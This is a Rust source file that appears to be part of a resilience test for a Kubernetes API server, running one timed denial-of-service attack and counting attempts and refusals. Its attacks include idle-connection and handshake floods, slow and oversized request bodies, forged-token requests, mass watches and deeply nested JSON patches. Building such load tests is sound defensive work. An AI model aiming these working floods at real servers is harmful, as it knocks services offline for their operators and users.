//! The attacker: a process on one core that runs one attack for a given time.

use std::fs;
use std::net::SocketAddr;
use std::path::PathBuf;
use std::process::ExitCode;
use std::sync::Arc;
use std::sync::atomic::{AtomicU64, Ordering};
use std::time::Duration;

use clap::Args;
use client::Config;
use rustix::process::{Resource, Rlimit, getrlimit, setrlimit};
use rustix::thread::{CpuSet, sched_setaffinity};
use rustls::pki_types::ServerName;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;
use tokio::task::JoinSet;
use tokio::time::{Instant, sleep, timeout_at};
use tokio_rustls::TlsConnector;
use tokio_rustls::client::TlsStream;

use super::attack::Attack;
use super::{POD_NAME, TARGET_NAMESPACE};
use crate::Failure;

/// Maximum number of idle connections: as many as a server with the usual limit of file descriptors can
/// hold. The limit of the attacker may be lower.
const IDLE_CONNECTIONS_MAX: usize = 20_000;
/// Delay after a refused attempt, so that the attacker spends its CPU time on attempts that may succeed.
const REFUSED_DELAY: Duration = Duration::from_millis(20);
/// Interval between bytes of a slow body; the server requires one every ten seconds.
const BYTE_INTERVAL: Duration = Duration::from_secs(9);
/// Length of a large body, just below the limit of 3 MiB.
const LARGE_BODY_BYTES: usize = (3 << 20) - 1;
/// Levels of nesting that one step of a patch adds; a request can have 128.
const PATCH_STEP_LEVELS: usize = 110;
/// Steps of a patch: 44,000 levels in 400 KB.
const PATCH_STEPS: usize = 400;

/// Flags of the attacker's process.
#[derive(Clone, Debug, Args)]
pub(crate) struct Flags {
    /// The attack
    #[arg(long, value_enum)]
    attack: Attack,
    /// Address of the API server
    #[arg(long)]
    server: SocketAddr,
    /// File with the cluster CA certificate
    #[arg(long)]
    authority: PathBuf,
    /// File with the attacker's token
    #[arg(long)]
    token: PathBuf,
    /// Duration of the attack in seconds
    #[arg(long)]
    seconds: u64,
}

/// The target, and credentials and counters of the attacker.
struct Target {
    server: SocketAddr,
    tls: TlsConnector,
    token: String,
    ends: Instant,
    attempts: AtomicU64,
    refusals: AtomicU64,
}

type Connection = TlsStream<TcpStream>;

/// Runs the attack and prints the number of attempts and refusals.
///
/// # Errors
/// A file cannot be read, or the process cannot be pinned to one core.
pub(crate) fn run(flags: &Flags) -> Result<ExitCode, Failure> {
    let mut one_core = CpuSet::new();
    one_core.set(0);
    sched_setaffinity(None, &one_core)?;
    let descriptors = getrlimit(Resource::Nofile);
    setrlimit(
        Resource::Nofile,
        Rlimit {
            current: descriptors.maximum,
            ..descriptors
        },
    )?;
    let config = Config {
        certificate_authority: fs::read(&flags.authority)?,
        ..Config::default()
    };
    let runtime = tokio::runtime::Builder::new_current_thread()
        .enable_all()
        .build()?;
    runtime.block_on(async {
        let target = Arc::new(Target {
            server: flags.server,
            tls: TlsConnector::from(Arc::new(client::tls_config(&config)?)),
            token: fs::read_to_string(&flags.token)?.trim().to_owned(),
            ends: Instant::now() + Duration::from_secs(flags.seconds),
            attempts: AtomicU64::new(0),
            refusals: AtomicU64::new(0),
        });
        run_attack(flags.attack, &target).await;
        println!(
            "{} attempts, {} refused",
            target.attempts.load(Ordering::Relaxed),
            target.refusals.load(Ordering::Relaxed)
        );
        Ok(ExitCode::SUCCESS)
    })
}

async fn run_attack(attack: Attack, target: &Arc<Target>) {
    match attack {
        Attack::None => tokio::time::sleep_until(target.ends).await,
        Attack::IdleConnections => hold_open(target, Some("")).await,
        Attack::PartialPrefaces => hold_open(target, Some("PRI * HTT")).await,
        Attack::IdleSockets => hold_open(target, None).await,
        Attack::Handshakes => in_parallel(target, 16, handshake).await,
        Attack::ForgedTokens => in_parallel(target, 64, |target| requests(target, forged_token)).await,
        Attack::SlowBodies => in_parallel(target, 200, slow_body).await,
        Attack::LargeBodies => in_parallel(target, 64, large_body).await,
        Attack::Requests => in_parallel(target, 64, |target| requests(target, access_review)).await,
        Attack::Watches => in_parallel(target, 2_000, watch).await,
        Attack::Lists => in_parallel(target, 16, |target| requests(target, list)).await,
        Attack::NestedPatches => in_parallel(target, 8, |target| requests(target, nested_patch)).await,
        Attack::ProxiedRequests => in_parallel(target, 600, |target| requests(target, proxied)).await,
    }
}

/// Repeats an attempt in concurrent tasks until the attack ends.
async fn in_parallel<F>(target: &Arc<Target>, tasks: usize, attempt: impl Fn(Arc<Target>) -> F)
where
    F: Future<Output = Result<(), Failure>> + Send + 'static,
{
    let mut running = JoinSet::new();
    while Instant::now() < target.ends {
        while running.len() < tasks {
            running.spawn(attempt(Arc::clone(target)));
            // Connections of one instant would only fill the accept queue.
            tokio::task::yield_now().await;
        }
        let Ok(Some(outcome)) = timeout_at(target.ends, running.join_next()).await else {
            continue;
        };
        if !matches!(outcome, Ok(Ok(()))) {
            target.refusals.fetch_add(1, Ordering::Relaxed);
            sleep(REFUSED_DELAY).await;
        }
    }
}

/// Opens connections, sends `first` on each (`None`: no TLS handshake) and keeps them open.
async fn hold_open(target: &Arc<Target>, first: Option<&str>) {
    let mut connections = Vec::new();
    while Instant::now() < target.ends {
        if connections.len() >= IDLE_CONNECTIONS_MAX {
            sleep(REFUSED_DELAY).await;
            continue;
        }
        match timeout_at(target.ends, open(target, first)).await {
            Ok(Ok(connection)) => connections.push(connection),
            _ => {
                target.refusals.fetch_add(1, Ordering::Relaxed);
                sleep(REFUSED_DELAY).await;
            }
        }
    }
}

/// Connection that stays open.
enum OpenConnection {
    Socket(#[expect(dead_code, reason = "held open, never used")] TcpStream),
    Tls(#[expect(dead_code, reason = "held open, never used")] Box<Connection>),
}

async fn open(target: &Arc<Target>, first: Option<&str>) -> Result<OpenConnection, Failure> {
    let Some(first) = first else {
        target.attempts.fetch_add(1, Ordering::Relaxed);
        return Ok(OpenConnection::Socket(TcpStream::connect(target.server).await?));
    };
    let mut connection = connect(target).await?;
    connection.write_all(first.as_bytes()).await?;
    connection.flush().await?;
    Ok(OpenConnection::Tls(Box::new(connection)))
}

async fn connect(target: &Target) -> Result<Connection, Failure> {
    target.attempts.fetch_add(1, Ordering::Relaxed);
    let stream = TcpStream::connect(target.server).await?;
    let name = ServerName::from(target.server.ip());
    Ok(target.tls.connect(name, stream).await?)
}

async fn handshake(target: Arc<Target>) -> Result<(), Failure> {
    connect(&target).await.map(drop)
}

/// Sends the same request over one connection until the server closes it or the attack ends.
async fn requests(target: Arc<Target>, request: fn(&Target) -> Vec<u8>) -> Result<(), Failure> {
    let mut connection = connect(&target).await?;
    let request = request(&target);
    let mut response = vec![0; 64 << 10];
    while Instant::now() < target.ends {
        target.attempts.fetch_add(1, Ordering::Relaxed);
        connection.write_all(&request).await?;
        connection.flush().await?;
        let read = timeout_at(target.ends, connection.read(&mut response)).await;
        let Ok(read) = read else { return Ok(()) };
        let read = read?;
        if read == 0 {
            return Err("the server closed the connection".into());
        }
        if response[..read].starts_with(b"HTTP/1.1 4") || response[..read].starts_with(b"HTTP/1.1 5") {
            target.refusals.fetch_add(1, Ordering::Relaxed);
        }
        // The rest of a long response is discarded.
        while let Ok(Ok(more)) =
            tokio::time::timeout(Duration::from_millis(1), connection.read(&mut response)).await
        {
            if more == 0 {
                return Err("the server closed the connection".into());
            }
        }
    }
    Ok(())
}

fn head(target: &Target, method: &str, path: &str, more: &str) -> String {
    format!(
        "{method} {path} HTTP/1.1\r\nHost: api\r\nAuthorization: Bearer {}\r\n{more}\r\n",
        target.token
    )
}

fn with_body(target: &Target, method: &str, path: &str, content_type: &str, body: &str) -> Vec<u8> {
    let more = format!(
        "Content-Type: {content_type}\r\nContent-Length: {}\r\n",
        body.len()
    );
    (head(target, method, path, &more) + body).into_bytes()
}

const ACCESS_REVIEWS: &str = "/apis/authorization.k8s.io/v1/selfsubjectaccessreviews";

fn access_review(target: &Target) -> Vec<u8> {
    let body = r#"{"apiVersion":"authorization.k8s.io/v1","kind":"SelfSubjectAccessReview","spec":{"resourceAttributes":{"verb":"get","resource":"pods"}}}"#;
    with_body(target, "POST", ACCESS_REVIEWS, "application/json", body)
}

/// ServiceAccount token with a random signature, which the server has to verify.
fn forged_token(target: &Target) -> Vec<u8> {
    let signed = target.token.rsplit_once('.').map_or("", |(signed, _)| signed);
    let signature: String = (0..86).map(|_| fastrand::alphanumeric()).collect();
    let request = format!(
        "GET /api/v1/namespaces HTTP/1.1\r\nHost: api\r\nAuthorization: Bearer {signed}.{signature}\r\n\r\n"
    );
    request.into_bytes()
}

fn list(target: &Target) -> Vec<u8> {
    let path = format!("/api/v1/namespaces/{TARGET_NAMESPACE}/configmaps");
    head(target, "GET", &path, "").into_bytes()
}

fn proxied(target: &Target) -> Vec<u8> {
    let path = format!("/api/v1/namespaces/{TARGET_NAMESPACE}/pods/{POD_NAME}/proxy/");
    head(target, "GET", &path, "").into_bytes()
}

/// JSON patch whose operations are shallow and build a deeply nested tree by moves.
fn nested_patch(target: &Target) -> Vec<u8> {
    let nest = "{\"a\":".repeat(PATCH_STEP_LEVELS) + "{}" + &"}".repeat(PATCH_STEP_LEVELS);
    let pointer = "/a".repeat(PATCH_STEP_LEVELS);
    let step = format!(
        r#",{{"op":"add","path":"/n","value":{nest}}},{{"op":"move","from":"/x","path":"/n{pointer}/a"}},{{"op":"move","from":"/n","path":"/x"}}"#
    );
    let body = format!(
        r#"[{{"op":"add","path":"/x","value":{{}}}}{}]"#,
        step.repeat(PATCH_STEPS)
    );
    let path = format!("/api/v1/namespaces/{TARGET_NAMESPACE}/configmaps/patched?dryRun=All");
    with_body(target, "PATCH", &path, "application/json-patch+json", &body)
}

async fn slow_body(target: Arc<Target>) -> Result<(), Failure> {
    let mut connection = connect(&target).await?;
    let more = "Content-Type: application/json\r\nContent-Length: 100\r\n";
    let head = head(&target, "POST", ACCESS_REVIEWS, more);
    connection.write_all(head.as_bytes()).await?;
    connection.flush().await?;
    until_closed(&target, connection, Some(BYTE_INTERVAL)).await
}

async fn large_body(target: Arc<Target>) -> Result<(), Failure> {
    let mut connection = connect(&target).await?;
    let more = format!("Content-Type: application/json\r\nContent-Length: {LARGE_BODY_BYTES}\r\n");
    let head = head(&target, "POST", ACCESS_REVIEWS, &more);
    connection.write_all(head.as_bytes()).await?;
    let piece = vec![b' '; 64 << 10];
    let mut left = LARGE_BODY_BYTES - 1;
    while left > 0 {
        let length = left.min(piece.len());
        timeout_at(target.ends, connection.write_all(&piece[..length])).await??;
        left -= length;
    }
    connection.flush().await?;
    until_closed(&target, connection, None).await
}

/// Waits until the server responds or closes the connection; sends a space after each interval.
async fn until_closed(
    target: &Target,
    mut connection: Connection,
    pause: Option<Duration>,
) -> Result<(), Failure> {
    let mut response = [0; 1024];
    while Instant::now() < target.ends {
        let wait = Instant::now() + pause.unwrap_or(Duration::from_secs(3_600));
        match timeout_at(wait.min(target.ends), connection.read(&mut response)).await {
            Ok(Ok(_)) => return Err("the server refused the body".into()),
            Ok(Err(error)) => return Err(error.into()),
            Err(_) => {
                connection.write_all(b" ").await?;
                connection.flush().await?;
            }
        }
    }
    Ok(())
}

async fn watch(target: Arc<Target>) -> Result<(), Failure> {
    let mut connection = connect(&target).await?;
    let path = format!("/api/v1/namespaces/{TARGET_NAMESPACE}/configmaps?watch=1");
    connection
        .write_all(head(&target, "GET", &path, "").as_bytes())
        .await?;
    connection.flush().await?;
    let mut response = vec![0; 64 << 10];
    let mut is_first = true;
    while Instant::now() < target.ends {
        let Ok(read) = timeout_at(target.ends, connection.read(&mut response)).await else {
            return Ok(());
        };
        let read = read?;
        if read == 0 || (is_first && !response[..read].starts_with(b"HTTP/1.1 200")) {
            return Err("the server refused the watch".into());
        }
        is_first = false;
    }
    Ok(())
}
